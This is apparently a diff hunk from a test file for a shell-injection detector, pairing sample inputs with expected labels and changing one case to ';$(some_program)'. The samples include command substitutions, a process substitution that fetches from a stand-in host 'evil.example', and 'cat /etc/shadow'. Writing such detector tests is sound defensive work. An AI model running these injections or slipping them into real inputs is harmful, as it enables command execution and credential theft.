@@ -58,7 +58,7 @@ SUSPECTS = Suspects(DETECTOR)
         ("`sleep 5`", "shell.substitution"),
         ("a`id`b", "shell.substitution"),
         ("<(curl http://evil.example)", "shell.substitution"),
-        ("$(some_program)", "shell.substitution"),
+        (";$(some_program)", "shell.substitution"),
         # The text is a command line.
         ("cat /etc/shadow", "shell.line"),
         ("/usr/bin/id", "shell.line"),
